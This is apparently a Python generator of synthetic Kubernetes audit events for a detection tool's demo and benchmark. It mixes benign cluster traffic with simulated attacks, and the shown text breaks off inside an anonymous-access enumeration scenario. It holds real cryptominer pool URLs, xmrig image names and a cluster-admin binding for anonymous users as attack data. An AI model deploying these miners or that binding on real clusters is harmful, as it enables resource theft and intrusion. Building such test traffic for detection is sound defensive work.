"""Deterministic Kubernetes audit traffic of a small cluster, with the mission's attacks embedded.

Feeds `kubesigma demo generate` (the demo data) and `bench/engine.py` (the benchmark's event mix).
Everything comes from one `random.Random(seed)`: no global randomness, no wall clock, so one seed
always gives the same bytes.
"""

from __future__ import annotations

import heapq
import random
import uuid
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson

# The demo's story starts here unless told otherwise: a fixed instant, never the wall clock.
DEFAULT_START = datetime(2026, 11, 28, 9, 0, 0, tzinfo=UTC)
DEFAULT_CLUSTER = "demo-cluster"

K8S_VERSION = "v1.29.4"
K8S_COMMIT = "55019c83b0fd51ef4ced8c29eec2c4847f896e74"[:7]
NODE_COUNT = 3
CONTROL_PLANE_IP = "10.0.1.10"
CI_RUNNER_IP = "10.0.5.20"
PEOPLE = (
    ("alice@example.com", ["platform-admins", "system:authenticated"], "192.168.50.14", "darwin/arm64"),
    ("bob@example.com", ["developers", "system:authenticated"], "192.168.50.31", "linux/amd64"),
    ("carol@example.com", ["developers", "system:authenticated"], "192.168.50.47", "windows/amd64"),
)
# Attackers come from documentation ranges (RFC 5737): obviously not a real party.
ATTACKER_IPS = ("203.0.113.66", "198.51.100.23", "203.0.113.140")
MINER_POOLS = (
    "stratum+tcp://xmr.pool.minergate.com:45700",
    "stratum+tcp://pool.supportxmr.com:3333",
    "stratum+tcp://xmr-eu1.nanopool.org:14444",
)
MINER_IMAGES = ("docker.io/teamtnt/xmrig:latest", "xmrig/xmrig:6.21.0", "docker.io/lowtek99/xmrig:v6")

# Workloads: namespace -> (deployment name, image, port).
APPS = {
    "shop": (
        ("web", "registry.example.com/shop/web:2.14.1", 8080),
        ("cart", "registry.example.com/shop/cart:1.9.0", 8081),
    ),
    "payments": (("api", "registry.example.com/payments/api:3.2.0", 9000),),
    "monitoring": (("grafana", "grafana/grafana:10.4.2", 3000),),
}
# Secrets an enumerating identity walks through (namespace, name).
SECRETS = (
    ("shop", "web-db-credentials"),
    ("shop", "cart-redis"),
    ("shop", "registry-pull"),
    ("payments", "stripe-api-key"),
    ("payments", "api-tls"),
    ("payments", "postgres-admin"),
    ("monitoring", "grafana-admin"),
    ("monitoring", "alertmanager-slack-webhook"),
    ("kube-system", "bootstrap-token-abcdef"),
    ("kube-system", "cilium-ca"),
    ("kube-system", "coredns-token"),
    ("ingress-nginx", "ingress-nginx-admission"),
    ("cert-manager", "cert-manager-webhook-ca"),
    ("default", "ci-deployer-kubeconfig"),
    ("ci", "deployer-token"),
    ("argocd", "argocd-initial-admin-secret"),
)

_DIGITS = "bcdfghjklmnpqrstvwxz2456789"  # what Kubernetes uses for generated name suffixes


def _rbac_reason(kind: str, binding: str, role: str, subject_kind: str, subject: str) -> str:
    return f'RBAC: allowed by {kind} "{binding}" of ClusterRole "{role}" to {subject_kind} "{subject}"'


# What kube-apiserver's default ClusterRoleBinding lets every unauthenticated caller do (/version, /healthz).
_PUBLIC_INFO_VIEWER = _rbac_reason(
    "ClusterRoleBinding",
    "system:public-info-viewer",
    "system:public-info-viewer",
    "Group",
    "system:unauthenticated",
)


@dataclass(frozen=True, slots=True)
class Identity:
    """Who makes a request, as the audit Event's `user` block, source IPs and user agent record it."""

    username: str
    groups: tuple[str, ...]
    uid: str
    source_ip: str
    user_agent: str
    reason: str  # authorization.k8s.io/reason for its allowed requests
    # `user.extra` of a pod-bound service-account token: the pod it was issued to, wherever it is used.
    pod: tuple[str, str, str] | None = None  # (pod name, pod uid, token id)

    def user(self) -> dict[str, Any]:
        out: dict[str, Any] = {"username": self.username, "groups": list(self.groups)}
        if self.uid:
            out["uid"] = self.uid
        if self.pod:
            name, uid, jti = self.pod
            out["extra"] = {
                "authentication.kubernetes.io/credential-id": [f"JTI={jti}"],
                "authentication.kubernetes.io/pod-name": [name],
                "authentication.kubernetes.io/pod-uid": [uid],
            }
        return out


def _anonymous(source_ip: str, user_agent: str, reason: str = "") -> Identity:
    """An unauthenticated caller, as kube-apiserver records one (`reason`: why it was allowed, if it was)."""
    return Identity("system:anonymous", ("system:unauthenticated",), "", source_ip, user_agent, reason)


def _agent(component: str, suffix: str = "") -> str:
    ua = f"{component}/{K8S_VERSION} (linux/amd64) kubernetes/{K8S_COMMIT}"
    return f"{ua}/{suffix}" if suffix else ua


class _Cluster:
    """The state the traffic needs to stay coherent: who exists, which pods run where."""

    def __init__(self, rng: random.Random, name: str) -> None:
        self.rng = rng
        # Node names carry the cluster's name, as managed node pools name them.
        self.nodes = tuple(f"{name}-worker-{i + 1}" for i in range(NODE_COUNT))
        self.node_ips = {node: f"10.0.1.{11 + i}" for i, node in enumerate(self.nodes)}
        self.uids: dict[str, str] = {}
        self.pods: list[tuple[str, str, str, str]] = []  # (namespace, pod, app, node)
        for ns, apps in APPS.items():
            for app, _image, _port in apps:
                rs = f"{app}-{self.suffix(9)}"
                for _ in range(2):
                    self.pods.append((ns, f"{rs}-{self.suffix(5)}", app, rng.choice(self.nodes)))
        self.resource_version = 184_000_000 + rng.randrange(1_000_000)

    def suffix(self, n: int) -> str:
        return "".join(self.rng.choice(_DIGITS) for _ in range(n))

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def uid_of(self, name: str) -> str:
        if name not in self.uids:
            self.uids[name] = self.uuid()
        return self.uids[name]

    def next_rv(self) -> str:
        self.resource_version += self.rng.randrange(1, 40)
        return str(self.resource_version)

    def service_account(
        self, ns: str, name: str, ip: str, ua: str, reason: str = "", pod: str | None = None
    ) -> Identity:
        """A service account; `pod` names the pod its (bound) token was mounted into."""
        user = f"system:serviceaccount:{ns}:{name}"
        bound = (pod, self.uid_of(f"{ns}/{pod}"), self.uid_of(f"token:{ns}/{pod}")) if pod else None
        return Identity(
            user,
            ("system:serviceaccounts", f"system:serviceaccounts:{ns}", "system:authenticated"),
            self.uid_of(user),
            ip,
            ua,
            reason or _rbac_reason("RoleBinding", name, name, "ServiceAccount", f"{ns}/{name}"),
            bound,
        )

    def node(self, node: str) -> Identity:
        user = f"system:node:{node}"
        # The Node authorizer allows without an RBAC reason.
        return Identity(
            user, ("system:nodes", "system:authenticated"), "", self.node_ips[node], _agent("kubelet"), ""
        )

    def controller(self, name: str) -> Identity:
        return self.service_account(
            "kube-system",
            name,
            CONTROL_PLANE_IP,
            _agent("kube-controller-manager", f"system:serviceaccount:kube-system:{name}"),
            _rbac_reason(
                "ClusterRoleBinding",
                f"system:controller:{name}",
                f"system:controller:{name}",
                "ServiceAccount",
                f"kube-system/{name}",
            ),
        )

    def component(self, user: str, agent: str) -> Identity:
        return Identity(
            user,
            ("system:authenticated",),
            "",
            CONTROL_PLANE_IP,
            agent,
            _rbac_reason("ClusterRoleBinding", user, user, "User", user),
        )

    def person(self, i: int | None = None) -> Identity:
        name, groups, ip, platform = PEOPLE[self.rng.randrange(len(PEOPLE)) if i is None else i]
        role = "cluster-admin" if "platform-admins" in groups else "edit"
        return Identity(
            name,
            tuple(groups),
            self.uid_of(name),  # the OIDC subject, through the webhook token authenticator
            ip,
            f"kubectl/v1.29.2 ({platform}) kubernetes/4b8e819",
            _rbac_reason("ClusterRoleBinding", groups[0], role, "Group", groups[0]),
        )


def _ts(t: float) -> str:
    return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


_CODE_REASON = {201: "Created", 101: "Switching Protocols", 403: "Forbidden", 404: "NotFound"}


class _Events:
    """Builds audit Events; a scenario asks it for requests and gets a list of stage records."""

    def __init__(self, cluster: _Cluster) -> None:
        self.c = cluster

    def request(
        self,
        t: float,
        who: Identity,
        verb: str,
        uri: str,
        object_ref: dict[str, Any] | None,
        *,
        code: int = 200,
        latency: float | None = None,
        level: str = "Metadata",
        request_object: dict[str, Any] | None = None,
        response_object: dict[str, Any] | None = None,
        decision: str = "allow",
        reason: str | None = None,
        started: bool = False,
        annotations: dict[str, str] | None = None,
    ) -> list[dict[str, Any]]:
        """One API request: its ResponseComplete record, after a ResponseStarted one for long-running calls."""
        rng = self.c.rng
        if latency is None:
            latency = rng.uniform(0.0008, 0.012)
        audit_id = self.c.uuid()
        notes: dict[str, str] = {"authorization.k8s.io/decision": decision}
        notes["authorization.k8s.io/reason"] = who.reason if reason is None else reason
        if annotations:
            notes.update(annotations)
        base: dict[str, Any] = {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": level,
            "auditID": audit_id,
            "stage": "ResponseComplete",
            "requestURI": uri,
            "verb": verb,
            "user": who.user(),
            "sourceIPs": [who.source_ip],
            "userAgent": who.user_agent,
        }
        if object_ref is not None:
            base["objectRef"] = object_ref
        status: dict[str, Any] = {"metadata": {}, "code": code}
        if code >= 400:
            status.update(status="Failure", reason=_CODE_REASON.get(code, "Unknown"))
            if decision == "forbid":
                status["message"] = f'{verb} is forbidden: User "{who.username}" cannot {verb} this resource'
        base["responseStatus"] = status
        if request_object is not None and level in ("Request", "RequestResponse"):
            base["requestObject"] = request_object
        if response_object is not None and level == "RequestResponse" and code < 400:
            base["responseObject"] = response_object
        base["requestReceivedTimestamp"] = _ts(t)
        out = []
        if started:
            first = dict(base)
            first["stage"] = "ResponseStarted"
            first["responseStatus"] = {"metadata": {}, "code": 101 if verb == "create" else 200}
            first.pop("responseObject", None)
            first["stageTimestamp"] = _ts(t + min(latency, 0.05) / 2)
            first["annotations"] = notes
            out.append(first)
        base["stageTimestamp"] = _ts(t + latency)
        base["annotations"] = notes
        out.append(base)
        return out


def _ref(
    resource: str, namespace: str | None = None, name: str | None = None, **extra: str
) -> dict[str, Any]:
    ref: dict[str, Any] = {"resource": resource}
    if namespace:
        ref["namespace"] = namespace
    if name:
        ref["name"] = name
    ref.update(extra)
    ref.setdefault("apiVersion", "v1")
    return ref


def _path(resource: str, namespace: str | None = None, name: str | None = None, group: str = "") -> str:
    prefix = f"/apis/{group}" if group else "/api/v1"
    ns = f"/namespaces/{namespace}" if namespace else ""
    return f"{prefix}{ns}/{resource}" + (f"/{name}" if name else "")


def _pod_spec(
    c: _Cluster,
    ns: str,
    name: str | None,
    app: str,
    image: str,
    port: int,
    node: str | None,
    *,
    owner: tuple[str, str] | None = None,
) -> dict[str, Any]:
    """A Pod as a ReplicaSet controller creates it: what a RequestResponse audit policy records."""
    rng = c.rng
    meta: dict[str, Any] = {"namespace": ns, "labels": {"app": app, "pod-template-hash": c.suffix(10)}}
    if name:
        meta["name"] = name
    if owner:
        meta["generateName"] = f"{owner[1]}-"
        meta["ownerReferences"] = [
            {
                "apiVersion": "apps/v1",
                "kind": owner[0],
                "name": owner[1],
                "uid": c.uid_of(f"{ns}/{owner[1]}"),
                "controller": True,
                "blockOwnerDeletion": True,
            }
        ]
    cpu = rng.choice(("100m", "250m", "500m"))
    mem = rng.choice(("128Mi", "256Mi", "512Mi"))
    container: dict[str, Any] = {
        "name": app,
        "image": image,
        "ports": [{"name": "http", "containerPort": port, "protocol": "TCP"}],
        "env": [
            {"name": "LOG_LEVEL", "value": rng.choice(("info", "warn", "debug"))},
            {
                "name": "POD_NAME",
                "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.name"}},
            },
            {
                "name": "DB_PASSWORD",
                "valueFrom": {"secretKeyRef": {"name": f"{app}-db-credentials", "key": "password"}},
            },
        ],
        "resources": {"limits": {"cpu": cpu, "memory": mem}, "requests": {"cpu": cpu, "memory": mem}},
        "livenessProbe": {
            "httpGet": {"path": "/healthz", "port": port, "scheme": "HTTP"},
            "initialDelaySeconds": 10,
            "periodSeconds": 10,
            "timeoutSeconds": 1,
            "successThreshold": 1,
            "failureThreshold": 3,
        },
        "readinessProbe": {
            "httpGet": {"path": "/ready", "port": port, "scheme": "HTTP"},
            "periodSeconds": 5,
            "timeoutSeconds": 1,
            "successThreshold": 1,
            "failureThreshold": 3,
        },
        "volumeMounts": [
            {
                "name": "kube-api-access",
                "readOnly": True,
                "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
            }
        ],
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent",
        "securityContext": {
            "runAsNonRoot": True,
            "runAsUser": 10001,
            "allowPrivilegeEscalation": False,
            "readOnlyRootFilesystem": True,
            "capabilities": {"drop": ["ALL"]},
        },
    }
    spec: dict[str, Any] = {
        "volumes": [
            {
                "name": "kube-api-access",
                "projected": {
                    "sources": [
                        {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                        {
                            "configMap": {
                                "name": "kube-root-ca.crt",
                                "items": [{"key": "ca.crt", "path": "ca.crt"}],
                            }
                        },
                        {
                            "downwardAPI": {
                                "items": [
                                    {
                                        "path": "namespace",
                                        "fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"},
                                    }
                                ]
                            }
                        },
                    ],
                    "defaultMode": 420,
                },
            }
        ],
        "containers": [container],
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst",
        "serviceAccountName": app,
        "serviceAccount": app,
        "securityContext": {"seccompProfile": {"type": "RuntimeDefault"}},
        "schedulerName": "default-scheduler",
        "tolerations": [
            {
                "key": "node.kubernetes.io/not-ready",
                "operator": "Exists",
                "effect": "NoExecute",
                "tolerationSeconds": 300,
            },
            {
                "key": "node.kubernetes.io/unreachable",
                "operator": "Exists",
                "effect": "NoExecute",
                "tolerationSeconds": 300,
            },
        ],
        "priority": 0,
        "enableServiceLinks": True,
        "preemptionPolicy": "PreemptLowerPriority",
    }
    if node:
        spec["nodeName"] = node
    return {"kind": "Pod", "apiVersion": "v1", "metadata": meta, "spec": spec, "status": {}}


def _created(c: _Cluster, obj: dict[str, Any], t: float, name: str) -> dict[str, Any]:
    """The object as the API server answers a create: name, uid, resourceVersion, creation time."""
    resp = dict(obj)
    meta = dict(obj["metadata"])
    meta.update(
        name=name,
        uid=c.uuid(),
        resourceVersion=c.next_rv(),
        creationTimestamp=_ts(t)[:19] + "Z",
    )
    resp["metadata"] = meta
    if obj.get("kind") == "Pod":
        resp["status"] = {"phase": "Pending", "qosClass": "Guaranteed"}
    return resp


Episode = list[dict[str, Any]]


class _Traffic:
    """Every kind of request the cluster sees, benign and hostile; each returns one episode's records."""

    def __init__(self, rng: random.Random, cluster_name: str) -> None:
        self.rng = rng
        self.c = _Cluster(rng, cluster_name)
        self.ev = _Events(self.c)
        self.cluster_name = cluster_name
        self.kcm = self.c.component(
            "system:kube-controller-manager", _agent("kube-controller-manager", "leader-election")
        )
        self.scheduler = self.c.component(
            "system:kube-scheduler", _agent("kube-scheduler", "leader-election")
        )
        self.ci = self.c.service_account(
            "ci",
            "deployer",
            CI_RUNNER_IP,
            "kubectl/v1.28.3 (linux/amd64) kubernetes/a8a1abc",
            _rbac_reason("RoleBinding", "deployer-edit", "edit", "ServiceAccount", "ci/deployer"),
        )
        self.coredns = self.c.service_account(
            "kube-system",
            "coredns",
            "10.244.0.3",
            "coredns/v0.0.0 (linux/amd64) kubernetes/$Format",
            _rbac_reason(
                "ClusterRoleBinding",
                "system:coredns",
                "system:coredns",
                "ServiceAccount",
                "kube-system/coredns",
            ),
            pod="coredns-76f75df574-x9k2p",
        )

    # ---- kubelets -------------------------------------------------------------------------------

    def kubelet_lease(self, t: float) -> Episode:
        node = self.rng.choice(self.c.nodes)
        who = self.c.node(node)
        uri = f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s"
        ref = _ref("leases", "kube-node-lease", node, apiGroup="coordination.k8s.io", apiVersion="v1")
        return self.ev.request(t, who, "update", uri, ref, latency=self.rng.uniform(0.002, 0.02))

    def kubelet_node_status(self, t: float) -> Episode:
        node = self.rng.choice(self.c.nodes)
        who = self.c.node(node)
        heartbeat = _ts(t)[:19] + "Z"
        patch = {
            "status": {
                "$setElementOrder/conditions": [
                    {"type": k} for k in ("MemoryPressure", "DiskPressure", "PIDPressure", "Ready")
                ],
                "conditions": [
                    {"type": k, "lastHeartbeatTime": heartbeat}
                    for k in ("MemoryPressure", "DiskPressure", "PIDPressure", "Ready")
                ],
            }
        }
        ref = _ref("nodes", None, node, subresource="status")
        return self.ev.request(
            t,
            who,
            "patch",
            f"/api/v1/nodes/{node}/status?timeout=10s",
            ref,
            level="Request",
            request_object=patch,
        )

    def kubelet_reads(self, t: float) -> Episode:
        ns, pod, app, node = self.rng.choice(self.c.pods)
        who = self.c.node(node)
        kind = self.rng.random()
        if kind < 0.35:
            return self.ev.request(t, who, "get", _path("pods", ns, pod), _ref("pods", ns, pod))
        if kind < 0.6:
            uri = (
                _path("configmaps", ns) + "?fieldSelector=metadata.name%3Dkube-root-ca.crt&resourceVersion=0"
            )
            return self.ev.request(t, who, "list", uri, _ref("configmaps", ns, "kube-root-ca.crt"))
        if kind < 0.8:
            # Projected service-account tokens: TokenRequest against the pod's service account.
            uri = _path("serviceaccounts", ns, app) + "/token"
            ref = _ref("serviceaccounts", ns, app, subresource="token")
            return self.ev.request(t, who, "create", uri, ref, code=201)
        secret = f"{app}-db-credentials"
        uri = _path("secrets", ns) + f"?fieldSelector=metadata.name%3D{secret}&resourceVersion=0"
        return self.ev.request(t, who, "list", uri, _ref("secrets", ns, secret))

    def kubelet_pod_status(self, t: float) -> Episode:
        ns, pod, _app, node = self.rng.choice(self.c.pods)
        who = self.c.node(node)
        patch = {
            "metadata": {"uid": self.c.uid_of(f"{ns}/{pod}")},
            "status": {
                "conditions": [{"type": "Ready", "status": "True", "lastTransitionTime": _ts(t)[:19] + "Z"}]
            },
        }
        ref = _ref("pods", ns, pod, subresource="status")
        return self.ev.request(
            t, who, "patch", _path("pods", ns, pod) + "/status", ref, level="Request", request_object=patch
        )

    def kubelet_watch(self, t: float) -> Episode:
        node = self.rng.choice(self.c.nodes)
        who = self.c.node(node)
        timeout = self.rng.randrange(300, 600)
        uri = (
            f"/api/v1/pods?allowWatchBookmarks=true&fieldSelector=spec.nodeName%3D{node}"
            f"&resourceVersion={self.c.next_rv()}&timeout={timeout // 60}m{timeout % 60}s&timeoutSeconds={timeout}&watch=true"
        )
        return self.ev.request(t, who, "watch", uri, _ref("pods"), latency=float(timeout), started=True)

    # ---- control plane --------------------------------------------------------------------------

    def leader_election(self, t: float) -> Episode:
        who, name = (
            (self.kcm, "kube-controller-manager")
            if self.rng.random() < 0.6
            else (self.scheduler, "kube-scheduler")
        )
        uri = f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{name}?timeout=5s"
        ref = _ref("leases", "kube-system", name, apiGroup="coordination.k8s.io")
        verb = "get" if self.rng.random() < 0.5 else "update"
        return self.ev.request(t, who, verb, uri, ref)

    def controllers(self, t: float) -> Episode:
        ns = self.rng.choice(tuple(APPS))
        app = self.rng.choice(APPS[ns])[0]
        kind = self.rng.random()
        if kind < 0.4:
            who = self.c.controller("endpointslice-controller")
            name = f"{app}-{self.c.suffix(5)}"
            ref = _ref("endpointslices", ns, name, apiGroup="discovery.k8s.io")
            return self.ev.request(
                t, who, "update", _path("endpointslices", ns, name, "discovery.k8s.io/v1"), ref
            )
        if kind < 0.6:
            who = self.c.controller("replicaset-controller")
            name = f"{app}-{self.c.suffix(9)}"
            ref = _ref("replicasets", ns, name, apiGroup="apps", subresource="status")
            return self.ev.request(
                t, who, "update", _path("replicasets", ns, name, "apps/v1") + "/status", ref
            )
        if kind < 0.75:
            who = self.c.controller("deployment-controller")
            ref = _ref("deployments", ns, app, apiGroup="apps", subresource="status")
            return self.ev.request(
                t, who, "update", _path("deployments", ns, app, "apps/v1") + "/status", ref
            )
        if kind < 0.9:
            who = self.c.controller("generic-garbage-collector")
            uri = "/apis/apps/v1/replicasets?limit=500&resourceVersion=0"
            return self.ev.request(t, who, "list", uri, _ref("replicasets", apiGroup="apps"))
        who = self.c.controller("namespace-controller")
        return self.ev.request(t, who, "get", f"/api/v1/namespaces/{ns}", _ref("namespaces", None, ns))

    def pod_create(self, t: float) -> Episode:
        """A ReplicaSet scales up: the controller creates a Pod, the scheduler binds it."""
        ns = self.rng.choice(tuple(APPS))
        app, image, port = self.rng.choice(APPS[ns])
        rs = f"{app}-{self.c.suffix(9)}"
        name = f"{rs}-{self.c.suffix(5)}"
        node = self.rng.choice(self.c.nodes)
        spec = _pod_spec(self.c, ns, None, app, image, port, None, owner=("ReplicaSet", rs))
        who = self.c.controller("replicaset-controller")
        out = self.ev.request(
            t,
            who,
            "create",
            _path("pods", ns),
            _ref("pods", ns, name),
            code=201,
            level="RequestResponse",
            request_object=spec,
            response_object=_created(self.c, spec, t, name),
            annotations={"pod-security.kubernetes.io/enforce-policy": "restricted:latest"},
        )
        binding = {
            "kind": "Binding",
            "apiVersion": "v1",
            "metadata": {"name": name, "namespace": ns, "uid": self.c.uuid()},
            "target": {"kind": "Node", "name": node},
        }
        t2 = t + self.rng.uniform(0.005, 0.05)
        out += self.ev.request(
            t2,
            self.scheduler,
            "create",
            _path("pods", ns, name) + "/binding",
            _ref("pods", ns, name, subresource="binding"),
            code=201,
            level="RequestResponse",
            request_object=binding,
            response_object={
                "kind": "Status",
                "apiVersion": "v1",
                "metadata": {},
                "status": "Success",
                "code": 201,
            },
        )
        self.c.pods[self.rng.randrange(len(self.c.pods))] = (ns, name, app, node)
        return out

    def coredns_reads(self, t: float) -> Episode:
        resource, group = self.rng.choice(
            (("endpointslices", "discovery.k8s.io/v1"), ("services", ""), ("namespaces", ""))
        )
        ref = _ref(resource, apiGroup=group.split("/")[0]) if group else _ref(resource)
        if self.rng.random() < 0.5:
            return self.ev.request(
                t, self.coredns, "list", _path(resource, group=group) + "?limit=500&resourceVersion=0", ref
            )
        timeout = self.rng.randrange(300, 600)
        uri = (
            _path(resource, group=group)
            + f"?allowWatchBookmarks=true&resourceVersion={self.c.next_rv()}&timeoutSeconds={timeout}&watch=true"
        )
        return self.ev.request(t, self.coredns, "watch", uri, ref, latency=float(timeout), started=True)

    # ---- people and CI --------------------------------------------------------------------------

    def ci_deploy(self, t: float) -> Episode:
        """CI applies a Deployment (server-side apply): a read, then a patch with the full object."""
        ns = self.rng.choice(("shop", "payments"))
        app, image, port = self.rng.choice(APPS[ns])
        tag = f"{self.rng.randrange(1, 4)}.{self.rng.randrange(20)}.{self.rng.randrange(10)}"
        new_image = image.rsplit(":", 1)[0] + ":" + tag
        ref = _ref("deployments", ns, app, apiGroup="apps")
        uri = _path("deployments", ns, app, "apps/v1")
        out = self.ev.request(t, self.ci, "get", uri, ref)
        template = _pod_spec(self.c, ns, None, app, new_image, port, None)
        template.pop("kind"), template.pop("apiVersion"), template.pop("status")
        deployment = {
            "apiVersion": "apps/v1",
            "kind": "Deployment",
            "metadata": {
                "name": app,
                "namespace": ns,
                "labels": {"app": app},
                "annotations": {"ci.example.com/commit": self.c.suffix(12)},
            },
            "spec": {"replicas": 2, "selector": {"matchLabels": {"app": app}}, "template": template},
        }
        resp = _created(self.c, deployment, t, app)
        out += self.ev.request(
            t + self.rng.uniform(0.05, 0.3),
            self.ci,
            "patch",
            uri + "?fieldManager=kubectl&fieldValidation=Strict&force=false",
            ref,
            level="RequestResponse",
            request_object=deployment,
            response_object=resp,
        )
        return out

    def kubectl(self, t: float) -> Episode:
        who = self.c.person()
        ns, pod, app, _node = self.rng.choice(self.c.pods)
        kind = self.rng.random()
        if kind < 0.4:
            return self.ev.request(t, who, "list", _path("pods", ns) + "?limit=500", _ref("pods", ns))
        if kind < 0.6:
            uri = _path("pods", ns, pod) + f"/log?container={app}&tailLines=200"
            return self.ev.request(t, who, "get", uri, _ref("pods", ns, pod, subresource="log"), latency=0.2)
        if kind < 0.75:
            return self.ev.request(t, who, "get", _path("pods", ns, pod), _ref("pods", ns, pod))
        if kind < 0.9:
            ref = _ref("deployments", ns, app, apiGroup="apps")
            return self.ev.request(t, who, "get", _path("deployments", ns, app, "apps/v1"), ref)
        uri = _path("events", ns) + f"?fieldSelector=involvedObject.name%3D{pod}"
        return self.ev.request(t, who, "list", uri, _ref("events", ns))

    # ---- benign look-alikes ---------------------------------------------------------------------

    def health_check(self, t: float) -> Episode:
        """kube-probe and the load balancer ask /healthz, /livez, /readyz unauthenticated: allowed, harmless."""
        path = self.rng.choice(("/healthz", "/livez", "/readyz", "/readyz?verbose", "/livez?exclude=etcd"))
        ip, ua = self.rng.choice((("127.0.0.1", "kube-probe/1.29"), ("10.0.0.4", "ELB-HealthChecker/2.0")))
        who = _anonymous(ip, ua, _PUBLIC_INFO_VIEWER)
        return self.ev.request(t, who, "get", path, None)

    def own_secret(self, t: float) -> Episode:
        """A controller reads the secret it owns (the ingress admission webhook's certificate)."""
        who = self.c.service_account(
            "ingress-nginx",
            "ingress-nginx-admission",
            "10.244.2.17",
            "kube-webhook-certgen/v1.4.1 (linux/amd64) kubernetes/$Format",
            _rbac_reason(
                "RoleBinding",
                "ingress-nginx-admission",
                "ingress-nginx-admission",
                "ServiceAccount",
                "ingress-nginx/ingress-nginx-admission",
            ),
            pod="ingress-nginx-admission-create-6pz4k",
        )
        name = "ingress-nginx-admission"
        return self.ev.request(
            t, who, "get", _path("secrets", "ingress-nginx", name), _ref("secrets", "ingress-nginx", name)
        )

    def cni_daemonset(self, t: float) -> Episode:
        """The addon manager installs the CNI DaemonSet; the DaemonSet controller creates its privileged pods."""
        who = self.c.component("system:addon-manager", "kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8")
        image = "quay.io/cilium/cilium:v1.15.4"
        template = {
            "metadata": {"labels": {"k8s-app": "cilium"}},
            "spec": self._cni_pod_spec(image),
        }
        ds = {
            "apiVersion": "apps/v1",
            "kind": "DaemonSet",
            "metadata": {"name": "cilium", "namespace": "kube-system", "labels": {"k8s-app": "cilium"}},
            "spec": {"selector": {"matchLabels": {"k8s-app": "cilium"}}, "template": template},
        }
        out = self.ev.request(
            t,
            who,
            "create",
            _path("daemonsets", "kube-system", group="apps/v1"),
            _ref("daemonsets", "kube-system", "cilium", apiGroup="apps"),
            code=201,
            level="RequestResponse",
            request_object=ds,
            response_object=_created(self.c, ds, t, "cilium"),
        )
        dsc = self.c.controller("daemon-set-controller")
        for i, node in enumerate(self.c.nodes):
            name = f"cilium-{self.c.suffix(5)}"
            pod = {
                "kind": "Pod",
                "apiVersion": "v1",
                "metadata": {
                    "generateName": "cilium-",
                    "namespace": "kube-system",
                    "labels": {"k8s-app": "cilium", "controller-revision-hash": self.c.suffix(10)},
                    "ownerReferences": [
                        {
                            "apiVersion": "apps/v1",
                            "kind": "DaemonSet",
                            "name": "cilium",
                            "uid": self.c.uid_of("kube-system/cilium"),
                            "controller": True,
                            "blockOwnerDeletion": True,
                        }
                    ],
                },
                "spec": {**self._cni_pod_spec(image), "nodeName": node},
                "status": {},
            }
            out += self.ev.request(
                t + 0.4 + 0.03 * i,
                dsc,
                "create",
                _path("pods", "kube-system"),
                _ref("pods", "kube-system", name),
                code=201,
                level="RequestResponse",
                request_object=pod,
                response_object=_created(self.c, pod, t, name),
                annotations={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
            )
        return out

    @staticmethod
    def _cni_pod_spec(image: str) -> dict[str, Any]:
        mounts = (
            ("cni-path", "/opt/cni/bin", "/host/opt/cni/bin"),
            ("etc-cni-netd", "/etc/cni/net.d", "/host/etc/cni/net.d"),
            ("lib-modules", "/lib/modules", "/lib/modules"),
            ("xtables-lock", "/run/xtables.lock", "/run/xtables.lock"),
            ("bpf-maps", "/sys/fs/bpf", "/sys/fs/bpf"),
        )
        return {
            "hostNetwork": True,
            "priorityClassName": "system-node-critical",
            "serviceAccountName": "cilium",
            "containers": [
                {
                    "name": "cilium-agent",
                    "image": image,
                    "command": ["cilium-agent"],
                    "args": ["--config-dir=/tmp/cilium/config-map"],
                    "securityContext": {
                        "privileged": True,
                        "capabilities": {"add": ["NET_ADMIN", "SYS_MODULE", "SYS_ADMIN"]},
                    },
                    "volumeMounts": [{"name": n, "mountPath": m} for n, _p, m in mounts],
                }
            ],
            "volumes": [
                {"name": n, "hostPath": {"path": p, "type": "DirectoryOrCreate"}} for n, p, _m in mounts
            ],
            "tolerations": [{"operator": "Exists"}],
        }

    def anonymous_denied(self, t: float) -> Episode:
        """Internet scanners probing the API: refused, as they should be."""
        who = _anonymous(self.rng.choice(ATTACKER_IPS), "Go-http-client/1.1")
        path = self.rng.choice(
            ("/api/v1/namespaces/kube-system/secrets", "/apis/apps/v1/deployments", "/api/v1/nodes")
        )
        resource = path.rsplit("/", 1)[1]
        ns = "kube-system" if "namespaces" in path else None
        return self.ev.request(
            t, who, "list", path, _ref(resource, ns), code=403, decision="forbid", reason=""
        )

    # ---- attacks --------------------------------------------------------------------------------

    def anonymous_allowed(self, t: float, ip: str | None = None) -> Episode:
        """(a) A scanner finds the API answers anonymously: version, discovery, then pods and secrets.

        An over-permissive ClusterRoleBinding (to cluster-admin) lets system:anonymous do all of it.
        """
        ip = ip or self.rng.choice(ATTACKER_IPS)
        agent = self.rng.choice(("curl/7.88.1", "python-requests/2.31.0"))
        public = _anonymous(ip, agent, _PUBLIC_INFO_VIEWER)
        who = _anonymous(
            ip,
            agent,
            _rbac_reason("ClusterRoleBinding", "anonymous-view", "cluster-admin", "User", "system:anonymous"),
        )
        out = self.ev.request(t, public, "get", "/version", None)
        t += self.rng.uniform(0.5, 2)
        out += self.ev.request(t, who, "get", "/api", None)
        t += self.rng.uniform(0.1, 0.5)
        out += self.ev.request(t, who, "get", "/apis", None)
        t += self.rng.uniform(1, 4)
        out += self.ev.request(t, who, "list", "/api/v1/pods", _ref("pods"), latency=0.08)
        ns = self.rng.choice(("kube-system", "default", "payments"))
        out += self.ev.request(
